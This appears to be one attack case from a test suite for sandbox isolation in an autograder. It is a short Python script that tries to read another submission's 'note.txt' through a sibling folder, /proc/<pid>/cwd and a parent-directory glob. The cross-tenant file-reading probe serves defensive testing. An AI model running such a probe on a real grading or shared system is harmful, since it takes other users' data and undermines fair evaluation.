"""What another submission, being graded at the same time, has beside its notebook."""

# /// attack
# held_by = "kernel"
# alone = true
# undiscriminating = "as root, each child is a user of its own"
# ///

import glob
import os

folder = os.path.dirname(os.getcwd())
places = [TARGETS["sibling_folder"], f"/proc/{TARGETS['sibling']}/cwd"]
places += [place for place in glob.glob(f"{folder}/*") if place != os.getcwd()]
for place in places:
    try:
        loot = loot or open(f"{place}/note.txt").read()
    except OSError:
        pass
